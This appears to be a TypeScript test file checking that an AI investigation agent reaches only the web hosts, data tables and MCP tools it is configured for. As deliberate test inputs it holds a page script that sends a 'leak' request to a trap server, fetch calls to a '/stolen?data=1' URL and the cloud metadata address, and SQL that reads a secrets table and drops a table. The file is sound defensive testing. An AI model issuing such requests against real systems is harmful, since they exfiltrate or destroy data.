import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { once } from 'node:events';
import { writeFile } from 'node:fs/promises';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { test } from 'node:test';
import { fileURLToPath } from 'node:url';
import { alterStored, assertEvidence } from '../../../test/policies/cases.ts';
import { claim, good, quote, rejected, startModelCases } from '../../../test/policies/model-cases.ts';
import { startJob, untilFinal } from '../../../test/runs.ts';
import { makeFolder, stopAtEnd } from '../../../test/stop-at-end.ts';
import { createBrowser } from '../web/browser/browser.ts';

// Where an investigation looks beside its inputs: what the agent names, and nothing else.

const visited: string[] = [];
const caught: string[] = [];
const { executable, missing } = createBrowser({ path: undefined, allow: [] });

const PAGE = `<html><head><title>Registry</title><link rel="stylesheet" href="/style.css"></head>
<body><p>Blade Ltd was dissolved in 2024.</p><img src="ELSEWHERE/pixel.gif?case=1">
<script>fetch('ELSEWHERE/leak', { mode: 'no-cors' }).catch(() => 0);</script></body></html>`;

const folder = await makeFolder();
const script = fileURLToPath(new URL('../../../test/models/mcp-server.ts', import.meta.url));
const server = { command: process.execPath, args: [script], env: { WEATHER_STATION: 'the register' } };
await writeFile(join(folder, 'mcp.json'), JSON.stringify({ mcpServers: { sky: server } }));
const cases = stopAtEnd(await startModelCases({ ERRAND_CHROMIUM: '', ERRAND_MCP_FILE: join(folder, 'mcp.json') }));
const site = stopAtEnd(
  createServer((request, response) => {
    if (request.url !== '/favicon.ico') visited.push(request.url!);
    if (request.url === '/away') return void response.writeHead(302, { location: `${trapUrl}/away` }).end();
    if (request.url === '/style.css') return void response.writeHead(200, { 'content-type': 'text/css' }).end('p{}');
    response.writeHead(200, { 'content-type': 'text/html' }).end(PAGE.replaceAll('ELSEWHERE', trapUrl));
  }).listen(0, '127.0.0.1'),
);
const trap = stopAtEnd(
  createServer((request, response) => {
    caught.push(request.url!);
    response.writeHead(200).end('caught');
  }).listen(0, '127.0.0.1'),
);
await Promise.all([once(site, 'listening'), once(trap, 'listening')]);
const host = `127.0.0.1:${(site.address() as AddressInfo).port}`;
const trapUrl = `http://127.0.0.1:${(trap.address() as AddressInfo).port}`;

test('pages of the hosts that the agent names become evidence; no other host is asked, not even by a redirect', async () => {
  const { model, agent } = await cases.newCase('ProductPolicyEngine', { context_sources: [`http://${host}`] });
  const tools = (...urls: string[]) => ({ tools: urls.map((url) => ({ name: 'fetch_page', input: { url } })) });
  const findings = [
    {
      ...claim('R1', false, ''),
      evidence: [...quote('Sharp weapons for hunters.'), ...quote('Blade Ltd was dissolved', '$REF_2$')],
    },
    ...good.findings.slice(1),
  ];
  await cases.models.script(
    model,
    tools(`http://${host}/company`, `${trapUrl}/stolen?data=1`, 'http://169.254.169.254/', `http://${host}/away`),
    { text: 'done' },
    { json: { findings } },
    // A passage has the words of the rule: the model is asked about it again, and stays with its answer.
    { json: { looks: [{ rule: 'R1', shows: false, reasoning: 'It does not.' }] } },
    { json: rejected },
  );
  const { job, output, result } = await cases.run(agent.id);
  await assertEvidence(cases.org, job, result.investigation_findings, result.summary_evidences);
  assert.equal(result.unsupported, false);
  // The page is fetched once; a browser draws what was saved, and gets styles and images of that host only.
  assert.deepEqual(visited, executable ? ['/company', '/style.css', '/away'] : ['/company', '/away']);
  const [saved, picture] = output.references;
  const page = await cases.org.request('GET', new URL(saved).pathname, undefined, { range: 'bytes=0-5' });
  assert.deepEqual([page.status, page.text], [206, '<html>']);
  const kept = await cases.read(job.id, 'evidence_2');
  assert.equal(kept.saved[0].sha256, createHash('sha256').update(PAGE.replaceAll('ELSEWHERE', trapUrl)).digest('hex'));
  if (executable) {
    assert.equal(kept.saved[1].address, picture);
    const image = await cases.org.request('GET', new URL(picture).pathname, undefined, { range: 'bytes=1-3' });
    assert.deepEqual([image.status, image.text, image.headers.get('content-type')], [206, 'PNG', 'image/png']);
  } else assert.equal(kept.note, `No screenshot was taken: ${missing}`);
  assert.deepEqual(caught, []);
  const [row] = await cases.harness.database.system.query<{ storage_key: string }>(
    'select storage_key from job_references where resource_id = $1',
    [new URL(saved).pathname.split('/').at(-2)],
  );
  await alterStored(cases.harness, row!.storage_key, PAGE.replace('dissolved', 'praised'));
  const altered = await cases.org.request('GET', new URL(saved).pathname, undefined, { range: 'bytes=0-5' });
  assert.deepEqual([altered.status, altered.body.error], [500, 'The stored content differs from what was written.']);
  const [, second] = await cases.models.calls(model);
  const told = answered(second);
  assert.match(told[0], /dissolved in 2024/);
  for (const refused of told.slice(1)) assert.match(refused, /are not allowed here/);
});

test('sources that make no sense are refused when the agent is made', async () => {
  const answer = await cases.org.request('POST', '/v1/agents/', {
    name: 'A',
    engine_class_id: 'MerchantRiskEngine',
    engine_config: { context_sources: ['everything'] },
  });
  assert.deepEqual([answer.status, Object.keys(answer.body)], [400, ['engine_config']]);
});

test('tables that the agent names are asked and become evidence; others are not there, and nothing is changed', async () => {
  for (const [name, rows] of [
    ['sellers', 'seller,warnings\nBlade Ltd,7 warnings for weapons\n'],
    ['secrets', 'word\nswordfish\n'],
  ] as const) {
    const form = new FormData();
    form.set('table_name', name);
    form.set('file', new File([rows], `${name}.csv`, { type: 'text/csv' }));
    const uploaded = await cases.org.request('POST', '/v1/tables/upload/', form);
    assert.equal(uploaded.status, 201, uploaded.text);
  }
  const { model, agent } = await cases.newCase('ProductPolicyEngine', { context_sources: ['table:sellers'] });
  const ask = (sql: string) => ({ name: 'query_tables', input: { sql } });
  const seen = [
    { ...claim('R1', true, ''), evidence: quote('7 warnings for weapons', '$REF_3$') },
    ...good.findings.slice(1),
  ];
  await cases.models.script(
    model,
    {
      tools: [
        ask('show tables'),
        ask('select * from sellers'),
        ask('select * from secrets'),
        ask('drop table sellers'),
      ],
    },
    { text: 'done' },
    { json: { findings: seen } },
    { json: rejected },
  );
  const { job, result } = await cases.run(agent.id);
  assert.deepEqual([result.verdict, result.unsupported], ['rejected', false]);
  await assertEvidence(cases.org, job, result.investigation_findings, result.summary_evidences);
  const [, second] = await cases.models.calls(model);
  const told = answered(second);
  assert.doesNotMatch(JSON.stringify(told), /swordfish/);
  assert.match(told[2], /secrets/);
  assert.match(told[3], /Only one SELECT/);
  assert.equal((await cases.org.request('GET', '/v1/tables/')).body.total, 2);
});

const answered = (call: any) =>
  call.body.messages.filter((message: any) => message.role === 'tool').map((message: any) => message.content);

test('a tool of an MCP server that the agent names is asked and becomes evidence; the others are not offered', async () => {
  const { model, agent } = await cases.newCase('ProductPolicyEngine', { context_sources: ['tool:sky_weather'] });
  const evidence = [...quote('Sharp weapons for hunters.'), ...quote('Sunny in Rome, says the register.', '$REF_2$')];
  const findings = [{ ...claim('R1', false, ''), evidence }, ...good.findings.slice(1)];
  await cases.models.script(
    model,
    {
      tools: [
        { name: 'sky_weather', input: { city: 'Rome' } },
        { name: 'sky_fail', input: {} },
      ],
    },
    { text: 'done' },
    { json: { findings } },
    // A passage has the words of the rule: the model is asked about it again, and stays with its answer.
    { json: { looks: [{ rule: 'R1', shows: false, reasoning: 'It does not.' }] } },
    { json: rejected },
  );
  const { job, result } = await cases.run(agent.id);
  assert.equal(result.unsupported, false);
  await assertEvidence(cases.org, job, result.investigation_findings, result.summary_evidences);
  const [first, second] = await cases.models.calls(model);
  assert.deepEqual(
    first!.body.tools.map((tool: any) => tool.function.name),
    ['sky_weather'],
  );
  assert.match(answered(second)[1], /Unknown tool 'sky_fail'/);
  const kept = await cases.read(job.id, 'evidence_2');
  assert.deepEqual([kept.source, kept.input], ['tool sky_weather', { city: 'Rome' }]);
  const unknown = await cases.newCase('ProductPolicyEngine', { context_sources: ['tool:sky_none'] });
  const failed = await untilFinal(
    cases.org,
    await startJob(cases.org, unknown.agent.id, { product_listing: 'Any listing.' }),
  );
  assert.deepEqual([failed.status_code, /tool 'sky_none'/.test(failed.error_message)], [4, true]);
});

test('reasoning_effort bounds how often tools may be used, and is told to the model', async () => {
  for (const [effort, last] of [
    ['low', 3],
    ['medium', 6],
  ] as const) {
    const { model, agent } = await cases.newCase('ProductPolicyEngine', {
      context_sources: ['tool:sky_weather'],
      reasoning_effort: effort,
    });
    const use = { tools: [{ name: 'sky_weather', input: { city: 'Rome' } }] };
    await cases.models.script(
      model,
      ...Array.from({ length: last - 1 }, () => use),
      { text: 'done' },
      { json: good },
      { json: rejected },
    );
    await cases.run(agent.id);
    const calls = await cases.models.calls(model);
    assert.deepEqual(
      calls.slice(0, last).map(({ body }) => [body.tool_choice, body.reasoning_effort]),
      Array.from({ length: last }, (_, index) => [index === last - 1 ? 'none' : 'auto', effort]),
    );
    assert.equal(calls.length, last + 2);
  }
});
